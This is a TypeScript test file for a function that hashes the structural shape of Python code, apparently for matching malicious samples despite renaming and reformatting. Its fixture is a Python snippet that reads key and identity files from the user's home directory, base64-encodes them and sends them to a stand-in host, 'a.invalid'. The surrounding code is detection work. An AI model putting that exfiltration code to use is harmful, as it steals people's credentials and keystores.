import { pythonReady } from './grammar';
import { readPython } from './read-python';

const CODE = `"""What it is."""
import json
import os, pathlib
import urllib.request as ur
from base64 import b64encode as enc

home = pathlib.Path.home()
loot = {}


def read(place, deep=False):
    """Reads."""
    target = home / place
    if target.is_file() and not deep:
        return [target.read_text()]
    return [each.read_text() for each in target.iterdir() if each.is_file()]


for place in (".a/id.json", ".b/keystores"):
    try:
        loot[place] = read(place, deep=True)
    except OSError as error:
        print(f"{place}: {error}")
with open(os.devnull) as sink:
    body = enc(json.dumps({"id": "x", "text": json.dumps(loot)}).encode())
    ur.urlopen(ur.Request("https://a.invalid/b", body, {"Content-Type": "c"}), timeout=5)
    sink.read(1)
`;
const shapeOf = (code: string) => readPython('a.py', code).shape;

describe('ast/python/shape', () => {
  beforeAll(pythonReady);

  it('is there for a file that does something, and not for little', () => {
    expect(shapeOf(CODE)).toMatch(/^[0-9a-f]{32}$/);
    expect(shapeOf('')).toBeUndefined();
    expect(shapeOf('from setuptools import setup\nsetup()\n')).toBeUndefined();
  });

  it.each<[string, (code: string) => string]>([
    [
      'names',
      (code) =>
        code
          .replace(/\b(home|loot|place|read|target|each|body|sink|error)\b(?!\()/g, '_$1')
          .replace(/\bdef read|(?<= )read\(/g, (all) => all.replace('read', '_read')),
    ],
    ['aliases', (code) => code.replace(/\bur\b/g, 'net').replace(/\benc\b/g, 'b64encode')],
    [
      'texts and numbers',
      (code) => code.replace('a.invalid', 'bcd.invalid').replace('timeout=5', 'timeout=50'),
    ],
    ['a longer list', (code) => code.replace('".b/keystores"', '".b/keystores", ".c"')],
    ['quotes', (code) => code.replaceAll('"', "'").replaceAll("'''", '"""')],
    ['indentation', (code) => code.replace(/^ +/gm, (spaces) => spaces + spaces)],
    ['comments', (code) => code.replace(/\)\n/g, ')  # note\n')],
    ['documentation', (code) => code.replace('    """Reads."""\n', '')],
    ['lines', (code) => code.replace('ur.urlopen(', 'ur.urlopen(\n        ')],
    ['parentheses', (code) => code.replace('target = home / place', 'target = (home / place)')],
  ])('stays with other %s', (_, change) => {
    expect(change(CODE)).not.toBe(CODE);
    expect(shapeOf(change(CODE))).toBe(shapeOf(CODE));
  });

  it.each<[string, (code: string) => string]>([
    ['call', (code) => code.replace('read_text()]', 'read_bytes()]')],
    ['module', (code) => code.replace('from base64', 'from base32')],
    ['built-in', (code) => code.replace('print(', 'exec(')],
    ['operator', (code) => code.replace('home / place', 'home - place')],
    ['comparison', (code) => code.replace('is_file() and', 'is_file() or')],
    ['keyword', (code) => code.replace('timeout=5', 'context=5')],
    ['statement', (code) => code.replace('    sink.read(1)\n', '')],
  ])('is another with another %s', (_, change) => {
    expect(shapeOf(change(CODE))).toMatch(/^[0-9a-f]{32}$/);
    expect(shapeOf(change(CODE))).not.toBe(shapeOf(CODE));
  });
});
